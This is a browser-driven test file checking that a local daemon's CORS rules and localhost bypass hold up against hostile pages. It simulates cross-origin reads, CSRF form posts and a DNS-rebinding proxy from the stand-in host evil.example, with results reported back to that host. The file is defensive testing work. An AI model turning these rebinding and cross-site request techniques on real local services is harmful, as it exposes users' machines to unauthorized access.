/**
 * A real browser on the daemon's own machine: pages of a foreign origin, of an allowed one, and of a rebound name get
 * what CORS and the bypass promise.
 */
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import * as http from "node:http";
import * as net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { eventually, startDaemon } from "../support/daemon.ts";
import { pick } from "../support/json.ts";
import type { Json } from "../support/json.ts";
import { makePerson } from "./identity-world.ts";

/** What a browser may take for one page, on a machine that has other work. */
const PAGE_MS = 60_000;
const FLAGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--disable-dev-shm-usage",
];
const RESOLVER = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP console.example 127.0.0.1";

const hasBrowser = spawnSync("chromium", ["--version"], { stdio: "ignore" }).status === 0;
const needsBrowser = { skip: hasBrowser ? false : "chromium is not on PATH", timeout: 2 * PAGE_MS };

/** Serves one page to everyone, and takes the reports that pages send to where they came from. */
class Site {
  readonly #reports = new Map<string, Json>();
  readonly #server: http.Server;
  page = "";

  constructor() {
    this.#server = http.createServer((req, res) => {
      if (req.method !== "POST")
        return void res.writeHead(200, { "Content-Type": "text/html", Connection: "close" }).end(this.page);
      let body = "";
      req.on("data", (part: Buffer) => (body += part.toString("utf8")));
      req.on("end", () => {
        this.#reports.set(req.url ?? "", JSON.parse(body) as Json);
        res.end();
      });
    });
  }

  async listen(): Promise<number> {
    await new Promise<void>((resolve) => this.#server.listen(0, "127.0.0.1", resolve));
    return portOf(this.#server);
  }

  report(path: string): Promise<Json> {
    return eventually(`the page's report ${path}`, () => this.#reports.get(path), PAGE_MS);
  }

  close(): void {
    this.#server.close();
    this.#server.closeAllConnections();
  }
}

function portOf(server: net.Server): number {
  const address = server.address();
  assert.ok(typeof address === "object" && address !== null);
  return address.port;
}

/** Runs the browser on a URL until `use` is done; gives what it printed. */
async function browse(
  url: string,
  flags: readonly string[],
  use: (ended: Promise<string>) => Promise<void>,
): Promise<void> {
  const profile = mkdtempSync(join(tmpdir(), "zwrmd-browser-"));
  const env = { PATH: process.env["PATH"] ?? "", HOME: profile };
  const child = spawn("chromium", [...FLAGS, RESOLVER, `--user-data-dir=${profile}`, ...flags, url], {
    stdio: ["ignore", "pipe", "ignore"],
    detached: true,
    env,
  });
  const end = (): void => {
    try {
      if (child.pid !== undefined) process.kill(-child.pid, "SIGKILL");
    } catch {
      // It has ended by itself.
    }
  };
  process.once("exit", end);
  let text = "";
  child.stdout.on("data", (part: Buffer) => (text += part.toString("utf8")));
  const ended = new Promise<string>((resolve) => child.once("close", () => resolve(text)));
  const late = setTimeout(end, PAGE_MS);
  try {
    await use(ended);
  } finally {
    clearTimeout(late);
    end();
    process.removeListener("exit", end);
    await ended;
    rmSync(profile, { recursive: true, force: true, maxRetries: 20, retryDelay: 100 });
  }
}

/** What the browser shows when someone types this address. */
async function typed(url: string): Promise<string> {
  let shown = "";
  await browse(url, ["--dump-dom"], async (ended) => {
    shown = await ended;
  });
  return shown;
}

/** A page that runs `script`, whose `results` it reports to its own site. */
function pageOf(report: string, script: string): string {
  return `<!doctype html><meta charset="utf-8"><title>page</title><body><script>
    const results = {};
    const read = async (name, url, options) => {
      try {
        const answer = await fetch(url, options);
        const text = await answer.text();
        const id = answer.headers.get("x-request-id");
        results[name] = { type: answer.type, status: answer.status, text: text.slice(0, 300), id };
      } catch (error) { results[name] = "blocked"; }
    };
    const loaded = (element) => new Promise((resolve) => {
      element.onload = element.onerror = resolve;
      setTimeout(resolve, 5000);
      document.body.append(element);
    });
    const send = (body) => fetch(${JSON.stringify(report)}, { method: "POST", mode: "no-cors", body });
    (async () => { ${script}; await send(JSON.stringify(results)); })();
  </script>`;
}

const site = new Site();
const sitePort = await site.listen();
after(() => site.close());
const daemon = await startDaemon({ config: `[cors]\nallowed_origins = ["http://console.example:${sitePort}"]` });
const root = await makePerson(daemon, "root", { hostAdmin: true });
const api = daemon.url;

/** How the daemon answered these requests, from its log. */
function answersTo(request: string): string[] {
  return daemon.stdoutLines.filter((line) => line.startsWith(`${request} `)).map((line) => line.split(" ")[2] ?? "");
}

test(
  "an address that someone types into the browser gets the bypass: nobody else's page is asking",
  needsBrowser,
  async () => {
    assert.match(await typed(`${api}/v1/auth/whoami`), /"auth_method":"localhost"/);
  },
);

test(
  "a page of a foreign origin reads nothing and changes nothing, by whatever way a page can ask",
  needsBrowser,
  async () => {
    site.page = pageOf(
      "/foreign",
      `
    await read("public", "${api}/v1/health");
    await read("whoami", "${api}/v1/auth/whoami");
    await read("token", "${api}/v1/auth/whoami", { headers: { Authorization: "Bearer ${root.session}" } });
    const typed = { headers: { "Content-Type": "application/json" } };
    await read("json", "${api}/v1/orgs", { method: "POST", ...typed, body: '{"slug":"evil"}' });
    await read("opaque", "${api}/v1/users", { mode: "no-cors" });
    await read("simple post", "${api}/v1/hosts/replace-lost", { method: "POST", mode: "no-cors", body: "{}" });
    await loaded(Object.assign(new Image(), { src: "${api}/v1/hosts" }));
    await loaded(Object.assign(document.createElement("script"), { src: "${api}/v1/events" }));
    await loaded(Object.assign(document.createElement("iframe"), { src: "${api}/v1/status" }));
    const frame = Object.assign(document.createElement("iframe"), { name: "target" });
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: "${api}/v1/images/verify", target: "target" });
    document.body.append(form);
    const sent = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 5000); });
    form.submit();
    await sent;`,
    );
    await browse(`http://evil.example:${sitePort}/`, [], async () => {
      const report = await site.report("/foreign");
      for (const name of ["public", "whoami", "token", "json"]) assert.equal(pick(report, name), "blocked", name);
      for (const name of ["opaque", "simple post"])
        assert.deepEqual([pick(report, `${name}.type`), pick(report, `${name}.text`)], ["opaque", ""], name);
    });
    for (const request of [
      "GET /v1/users",
      "POST /v1/hosts/replace-lost",
      "GET /v1/hosts",
      "GET /v1/events",
      "GET /v1/status",
      "POST /v1/images/verify",
    ]) {
      const answers = answersTo(request);
      assert.ok(answers.length > 0 && answers.every((status) => status === "401"), `${request}: ${answers.join()}`);
    }
    assert.deepEqual(answersTo("POST /v1/orgs"), [], "what needs a preflight never came");
    assert.ok(!JSON.stringify((await daemon.request("GET", "/v1/orgs")).json).includes("evil"));
  },
);

test(
  "a page of an allowed origin reads every answer, and gets in by a token and by nothing else",
  needsBrowser,
  async () => {
    const authorization = `headers: { Authorization: "Bearer ${root.session}", "Content-Type": "application/json" }`;
    site.page = pageOf(
      "/allowed",
      `
    await read("public", "${api}/v1/health");
    await read("nobody", "${api}/v1/auth/whoami");
    await read("wrong", "${api}/v1/auth/whoami", { headers: { Authorization: "Bearer wrong" } });
    await read("token", "${api}/v1/auth/whoami", { ${authorization} });
    await read("create", "${api}/v1/orgs", { method: "POST", ${authorization}, body: '{"slug":"console"}' });
    await read("delete", "${api}/v1/auth/tokens/none", { method: "DELETE", ${authorization} });`,
    );
    await browse(`http://console.example:${sitePort}/`, [], async () => {
      const report = await site.report("/allowed");
      assert.deepEqual(
        ["public", "nobody", "wrong", "token", "create", "delete"].map((name) => pick(report, `${name}.status`)),
        [200, 401, 401, 200, 201, 404],
        JSON.stringify(report),
      );
      assert.match(String(pick(report, "nobody.text")), /"code":"unauthorized"/);
      assert.match(String(pick(report, "token.text")), /root@example\.com/);
      assert.match(String(pick(report, "token.id")), /^[A-Za-z0-9._-]+$/, "X-Request-Id is there to be read");
    });
  },
);

test(
  "a page whose name was rebound to the loopback is of one origin with the daemon, and nobody to it",
  needsBrowser,
  async (t) => {
    // The name leads to the attacker's server for the page and to the daemon, byte by byte, for everything after it.
    const rebound = net.createServer((socket) => {
      socket.on("error", () => undefined);
      socket.once("data", (first: Buffer) => {
        const onward = net.connect(
          first.toString("latin1").startsWith("GET /page ") ? sitePort : daemon.port,
          "127.0.0.1",
          () => {
            onward.write(first);
            socket.pipe(onward).pipe(socket);
          },
        );
        onward.on("error", () => socket.destroy());
        socket.once("close", () => onward.destroy());
      });
    });
    await new Promise<void>((resolve) => rebound.listen(0, "127.0.0.1", resolve));
    t.after(() => rebound.close());
    site.page = pageOf(
      `http://evil.example:${sitePort}/rebound`,
      `
    await read("public", "/v1/health");
    for (const path of ["/v1/auth/whoami", "/v1/hosts", "/v1/users", "/v1/events"]) await read(path, path);
    const typed = { headers: { "Content-Type": "application/json" } };
    await read("create", "/v1/orgs", { method: "POST", ...typed, body: '{"slug":"rebound"}' });`,
    );
    await browse(`http://evil.example:${portOf(rebound)}/page`, [], async () => {
      const report = await site.report("/rebound");
      assert.equal(pick(report, "public.status"), 200, "the page does reach the daemon");
      for (const name of ["/v1/auth/whoami", "/v1/hosts", "/v1/users", "/v1/events", "create"])
        assert.equal(pick(report, `${name}.status`), 401, name);
    });
    assert.match(await typed(`http://evil.example:${daemon.port}/v1/auth/whoami`), /"code":"unauthorized"/);
  },
);
